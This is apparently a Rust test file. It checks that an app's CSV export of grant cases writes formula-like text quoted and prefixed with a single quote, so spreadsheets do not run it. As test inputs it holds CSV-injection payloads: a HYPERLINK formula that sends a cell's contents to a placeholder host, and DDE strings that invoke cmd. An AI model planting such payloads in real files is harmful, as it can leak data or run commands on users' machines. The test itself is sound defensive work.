//! The CSV files the app writes for spreadsheets (the DFG cases for a council's return): no
//! cell a person typed runs as a formula when the file is opened in Excel or LibreOffice, and
//! amounts and dates stay numbers. Through the api and through `passport dfg export --csv`.

use crate::support::{add_child, api, date};
use assert_cmd::Command;
use equipment_passport::model::dfg::*;
use std::collections::HashMap;

/// What people might type into a case, each starting with a character OWASP lists.
const COUNCIL: &str = "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"Council\")";
const AGENCY: &str = "+44 1632 960000";
const APPLICANT: &str = "-2+3+cmd|' /C calc'!A0";
const REASON: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

/// A case's row in the export: its raw line, and its cells as a spreadsheet reads them, by
/// column name.
fn row_of(csv: &[u8], case: &str) -> (String, HashMap<String, String>) {
    let text = String::from_utf8(csv.to_vec()).unwrap();
    let line = text
        .lines()
        .find(|l| l.contains(case))
        .expect("the case has a row")
        .to_string();
    let mut reader = csv::Reader::from_reader(csv);
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let cells = reader
        .records()
        .map(|r| {
            header
                .iter()
                .cloned()
                .zip(r.unwrap().iter().map(String::from))
                .collect::<HashMap<_, _>>()
        })
        .find(|r| r["case_id"] == case)
        .expect("the case has a row");
    (line, cells)
}

/// Each typed value reads back with a single quote in front, and is quoted in the file.
fn assert_neutralised(line: &str, cells: &HashMap<String, String>, typed: &[(&str, &str)]) {
    for (name, typed) in typed {
        assert_eq!(cells[*name], format!("'{typed}"), "{name}");
        let written = format!("\"'{}\"", typed.replace('"', "\"\""));
        assert!(line.contains(&written), "{name} is quoted: {line}");
    }
}

#[test]
fn text_typed_into_a_case_that_starts_like_a_formula_is_exported_quoted_with_a_single_quote_first()
{
    let mut api = api();
    let child = add_child(&mut api, "Amara", "Okafor");
    let mut details = DfgCaseDetails::new(Tenure::OwnerOccupier, Jurisdiction::England);
    details.council = COUNCIL.into();
    details.agency = AGENCY.into();
    details.applicant = APPLICANT.into();
    details.property_address = "3 Orchard Row, Letchworth".into();
    let case = api.open_dfg_case(child.id, details).unwrap().case.id;
    api.record_dfg_stage(
        case,
        StageEntry::new(Stage::Referral, date(2026, 10, 1), "Hannah Price"),
    )
    .unwrap();
    api.withdraw_dfg_case(
        case,
        StatusChange {
            date: date(2026, 11, 2),
            reason: REASON.into(),
            recorded_by: "Hannah Price".into(),
        },
    )
    .unwrap();

    let csv = api.export_dfg_csv().unwrap();
    let (line, cells) = row_of(&csv, &case.to_string());
    assert_neutralised(
        &line,
        &cells,
        &[
            ("council", COUNCIL),
            ("agency", AGENCY),
            ("applicant", APPLICANT),
            ("withdrawal_reason", REASON),
        ],
    );
    // Dates the app writes itself stay bare, so spreadsheets read them as dates.
    assert!(line.contains(",2026-10-01,"), "{line}");
    assert_eq!(cells["withdrawn"], "2026-11-02");
}

use crate::support::cli::passport;

fn stdout_of(cmd: &mut Command) -> String {
    let out = cmd.assert().success().get_output().stdout.clone();
    String::from_utf8(out).unwrap().trim().to_string()
}

#[test]
fn passport_dfg_export_writes_formula_like_text_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    let child = stdout_of(passport(dir).args([
        "child",
        "add",
        "--given",
        "Amara",
        "--family",
        "Okafor",
        "--dob",
        "2017-03-14",
    ]));
    let case = stdout_of(passport(dir).args([
        "dfg",
        "open",
        "--child",
        &child,
        "--tenure",
        "owner-occupier",
        "--jurisdiction",
        "england",
        "--address",
        "3 Orchard Row, Letchworth",
        "--council",
        COUNCIL,
        "--agency",
        AGENCY,
        // With `=`, as a value starting with `-` would otherwise be read as an option.
        &format!("--applicant={APPLICANT}"),
    ]));
    let file = dir.join("dfg.csv");
    passport(dir)
        .args(["dfg", "export", "--csv"])
        .arg(&file)
        .assert()
        .success();
    let csv = std::fs::read(&file).unwrap();
    let (line, cells) = row_of(&csv, &case);
    assert_neutralised(
        &line,
        &cells,
        &[
            ("council", COUNCIL),
            ("agency", AGENCY),
            ("applicant", APPLICANT),
        ],
    );
}
